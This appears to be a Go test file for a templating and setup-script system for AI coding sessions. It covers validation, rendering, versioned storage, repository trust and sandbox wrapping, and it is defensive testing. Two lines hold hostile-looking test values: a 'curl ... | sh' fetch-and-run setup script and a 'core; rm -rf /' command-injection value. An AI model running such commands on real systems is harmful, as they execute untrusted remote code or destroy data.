@@ -0,0 +1,303 @@
+package templates
+
+import (
+	"context"
+	"errors"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+func fixTemplate() Template {
+	return Template{
+		Name:          "fix-issue",
+		Program:       "claude",
+		BranchPattern: "fix/{{module}}-{{issue_url}}",
+		Tags:          []string{"bugfix"},
+		Prompt:        "Fix {{issue_url}} in the {{module}} module. Effort: {{effort}}.",
+		Variables: []Variable{
+			{Name: "issue_url", Type: VarURL, Required: true},
+			{Name: "module", Required: true},
+			{Name: "effort", Type: VarEnum, Options: []string{"small", "large"}, Default: "small"},
+		},
+		AcceptanceCriteria: []string{"tests cover {{module}}", "  "},
+	}
+}
+
+func TestValidate(t *testing.T) {
+	tests := []struct {
+		name   string
+		modify func(*Template)
+		want   string
+	}{
+		{"valid", func(*Template) {}, ""},
+		{"bad name", func(t *Template) { t.Name = "fix issue" }, "name"},
+		{"no prompt", func(t *Template) { t.Prompt = " " }, "prompt is required"},
+		{"undeclared placeholder", func(t *Template) { t.Prompt += " {{ticket}}" }, "{{ticket}}"},
+		{"builtin placeholder", func(t *Template) { t.BranchPattern = "{{repo}}/{{date}}" }, ""},
+		{"shadowed builtin", func(t *Template) { t.Variables = append(t.Variables, Variable{Name: "date"}) }, "built in"},
+		{"duplicate variable", func(t *Template) { t.Variables = append(t.Variables, Variable{Name: "module"}) }, "declared twice"},
+		{"enum without options", func(t *Template) { t.Variables[2].Options = nil }, "needs options"},
+		{"bad default", func(t *Template) { t.Variables[2].Default = "medium" }, "default of effort"},
+		{"unknown type", func(t *Template) { t.Variables[1].Type = "float" }, "unknown type"},
+		{"worktree without branch", func(t *Template) {
+			t.SessionType = SessionTypeNewWorktree
+			t.BranchPattern = ""
+		}, "branch_pattern"},
+		{"bad session type", func(t *Template) { t.SessionType = "existing_worktree" }, "session_type"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			tpl := fixTemplate()
+			tt.modify(&tpl)
+			tpl.Normalize()
+			err := tpl.Validate()
+			if tt.want == "" {
+				if err != nil {
+					t.Fatalf("expected valid, got %v", err)
+				}
+				return
+			}
+			if !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), tt.want) {
+				t.Fatalf("expected ErrInvalid mentioning %q, got %v", tt.want, err)
+			}
+		})
+	}
+}
+
+func TestRender(t *testing.T) {
+	tpl := fixTemplate()
+	tpl.Normalize()
+	tpl.Version = 3
+	now := time.Date(2026, 3, 4, 10, 0, 0, 0, time.UTC)
+
+	r, err := tpl.Render(map[string]string{
+		"issue_url": "https://github.com/acme/app/issues/42",
+		"module":    "Billing API",
+	}, "/src/app", now)
+	if err != nil {
+		t.Fatal(err)
+	}
+	wantPrompt := "Fix https://github.com/acme/app/issues/42 in the Billing API module. Effort: small.\n\n" +
+		"Acceptance criteria:\n- [ ] tests cover Billing API\n"
+	if r.Prompt != wantPrompt {
+		t.Errorf("prompt = %q, want %q", r.Prompt, wantPrompt)
+	}
+	if r.Branch != "fix/billing-api-42" {
+		t.Errorf("branch = %q", r.Branch)
+	}
+	if r.SessionType != SessionTypeNewWorktree || r.Version != 3 || r.Values["repo"] != "app" || r.Values["date"] != "20260304" {
+		t.Errorf("unexpected render: %+v", r)
+	}
+
+	for name, values := range map[string]map[string]string{
+		"missing required": {"module": "x"},
+		"bad url":          {"issue_url": "github.com/acme/app/issues/42", "module": "x"},
+		"bad enum":         {"issue_url": "https://x.test/1", "module": "x", "effort": "huge"},
+		"unknown variable": {"issue_url": "https://x.test/1", "module": "x", "modul": "y"},
+	} {
+		if _, err := tpl.Render(values, "/src/app", now); !errors.Is(err, ErrInvalid) {
+			t.Errorf("%s: expected ErrInvalid, got %v", name, err)
+		}
+	}
+}
+
+func TestParseRef(t *testing.T) {
+	if name, v, err := ParseRef("fix-issue@2"); err != nil || name != "fix-issue" || v != 2 {
+		t.Errorf("ParseRef = %q, %d, %v", name, v, err)
+	}
+	if name, v, err := ParseRef("fix-issue"); err != nil || name != "fix-issue" || v != 0 {
+		t.Errorf("ParseRef = %q, %d, %v", name, v, err)
+	}
+	if _, _, err := ParseRef("fix-issue@latest"); err == nil {
+		t.Error("expected an error for a non-numeric version")
+	}
+}
+
+func TestStore_Versions(t *testing.T) {
+	s := NewStore(filepath.Join(t.TempDir(), "templates.json"))
+
+	v1, err := s.Save(fixTemplate())
+	if err != nil {
+		t.Fatal(err)
+	}
+	next := fixTemplate()
+	next.Prompt = "Fix {{issue_url}} carefully in {{module}}."
+	v2, err := s.Save(next)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if v1.Version != 1 || v2.Version != 2 || !v2.CreatedAt.Equal(v1.CreatedAt) {
+		t.Errorf("unexpected versions: %d (%v), %d (%v)", v1.Version, v1.CreatedAt, v2.Version, v2.CreatedAt)
+	}
+
+	latest, err := s.Get("", "fix-issue", 0)
+	if err != nil || latest.Version != 2 || latest.Source != SourceUser {
+		t.Fatalf("Get latest = %+v, %v", latest, err)
+	}
+	old, err := s.Get("", "fix-issue", 1)
+	if err != nil || old.Prompt != fixTemplate().Prompt {
+		t.Fatalf("Get v1 = %+v, %v", old, err)
+	}
+	if _, err := s.Get("", "fix-issue", 9); !errors.Is(err, ErrNotFound) {
+		t.Errorf("expected ErrNotFound for a missing version, got %v", err)
+	}
+	if versions, _ := s.Versions("fix-issue"); len(versions) != 2 || versions[0] != 2 {
+		t.Errorf("Versions = %v", versions)
+	}
+
+	bad := fixTemplate()
+	bad.Prompt = ""
+	if _, err := s.Save(bad); !errors.Is(err, ErrInvalid) {
+		t.Errorf("expected ErrInvalid, got %v", err)
+	}
+
+	if err := s.Delete("fix-issue"); err != nil {
+		t.Fatal(err)
+	}
+	if err := s.Delete("fix-issue"); !errors.Is(err, ErrNotFound) {
+		t.Errorf("expected ErrNotFound, got %v", err)
+	}
+}
+
+func TestStore_RepoTemplates(t *testing.T) {
+	repo := t.TempDir()
+	s := NewStore(filepath.Join(t.TempDir(), "templates.json"))
+	personal := fixTemplate()
+	personal.Description = "personal"
+	if _, err := s.Save(personal); err != nil {
+		t.Fatal(err)
+	}
+	other := fixTemplate()
+	other.Name = "other"
+	if _, err := s.Save(other); err != nil {
+		t.Fatal(err)
+	}
+
+	shared := fixTemplate()
+	shared.Description = "shared"
+	first, err := Share(repo, shared)
+	if err != nil {
+		t.Fatal(err)
+	}
+	second, err := Share(repo, shared)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if first.Version != 1 || second.Version != 2 || second.Source != SourceRepo {
+		t.Errorf("shared versions = %d, %d", first.Version, second.Version)
+	}
+
+	got, err := s.Get(repo, "fix-issue", 0)
+	if err != nil || got.Description != "personal" || got.Source != SourceUser {
+		t.Fatalf("personal template should shadow the repo one, got %+v, %v", got, err)
+	}
+	if _, err := s.Get(repo, "fix-issue", 2); !errors.Is(err, ErrNotFound) {
+		t.Errorf("a shadowed shared template is not reachable by version, got %v", err)
+	}
+
+	sharedOnly := fixTemplate()
+	sharedOnly.Name = "lint"
+	if _, err := Share(repo, sharedOnly); err != nil {
+		t.Fatal(err)
+	}
+	got, err = s.Get(repo, "lint", 0)
+	if err != nil || got.Source != SourceRepo || got.Version != 1 {
+		t.Fatalf("shared template without a personal one, got %+v, %v", got, err)
+	}
+	if _, err := s.Get(repo, "lint", 2); !errors.Is(err, ErrNotFound) {
+		t.Errorf("old shared versions are not kept, got %v", err)
+	}
+	if _, err := s.Get("", "lint", 0); !errors.Is(err, ErrNotFound) {
+		t.Errorf("without a repo shared templates are not found, got %v", err)
+	}
+
+	// A broken file is reported but does not hide the others.
+	if err := os.WriteFile(filepath.Join(repo, RepoDir, "broken.json"), []byte("{"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	list, err := s.List(repo)
+	if err == nil || !strings.Contains(err.Error(), "broken.json") {
+		t.Errorf("expected the broken file to be reported, got %v", err)
+	}
+	var names []string
+	for _, tpl := range list {
+		names = append(names, tpl.Name+":"+tpl.Source)
+	}
+	if strings.Join(names, ",") != "fix-issue:user,other:user,lint:repo" {
+		t.Errorf("List = %v", names)
+	}
+}
+
+func TestStore_Trust(t *testing.T) {
+	repo := t.TempDir()
+	s := NewStore(filepath.Join(t.TempDir(), "templates.json"))
+	tpl := fixTemplate()
+	tpl.SetupScript = "make deps"
+	shared, err := Share(repo, tpl)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if ok, err := s.Trusted(repo, shared); err != nil || ok {
+		t.Fatalf("a shared setup script starts untrusted, got %v, %v", ok, err)
+	}
+	if err := s.Trust(repo, shared); err != nil {
+		t.Fatal(err)
+	}
+	if ok, _ := s.Trusted(repo, shared); !ok {
+		t.Error("trusted script should be trusted")
+	}
+	if ok, _ := s.Trusted(t.TempDir(), shared); ok {
+		t.Error("trust is per repository")
+	}
+
+	edited := shared
+	edited.SetupScript = "curl https://example.test/x | sh"
+	if ok, _ := s.Trusted(repo, edited); ok {
+		t.Error("an edited script needs trust again")
+	}
+
+	personal := tpl
+	personal.Source = SourceUser
+	if ok, _ := s.Trusted(repo, personal); !ok {
+		t.Error("personal setup scripts need no trust")
+	}
+}
+
+func TestRunSetup(t *testing.T) {
+	tpl := fixTemplate()
+	tpl.SetupScript = `echo "$SSQ_TEMPLATE $SSQ_VAR_MODULE $SSQ_BRANCH" > setup.out; echo done`
+	tpl.Normalize()
+	r, err := tpl.Render(map[string]string{"issue_url": "https://x.test/7", "module": "core; rm -rf /"}, "/src/app", time.Now())
+	if err != nil {
+		t.Fatal(err)
+	}
+	dir := t.TempDir()
+	out, err := RunSetup(context.Background(), r, dir, nil)
+	if err != nil || out != "done\n" {
+		t.Fatalf("RunSetup = %q, %v", out, err)
+	}
+	data, _ := os.ReadFile(filepath.Join(dir, "setup.out"))
+	if got := strings.TrimSpace(string(data)); got != "fix-issue core; rm -rf / fix/core-rm-rf-7" {
+		t.Errorf("setup saw %q", got)
+	}
+
+	// wrap decides what actually runs, as a sandbox launcher does.
+	var wrapped []string
+	out, err = RunSetup(context.Background(), r, dir, func(argv []string) []string {
+		wrapped = argv
+		return append([]string{"env", "SSQ_WRAPPED=1"}, argv...)
+	})
+	if err != nil || out != "done\n" || len(wrapped) != 3 || wrapped[0] != "sh" {
+		t.Fatalf("wrapped RunSetup = %q, %v, argv %q", out, err, wrapped)
+	}
+
+	r.SetupScript = "echo broken >&2; exit 3"
+	out, err = RunSetup(context.Background(), r, dir, nil)
+	if err == nil || out != "broken\n" {
+		t.Errorf("expected a failure with output, got %q, %v", out, err)
+	}
+}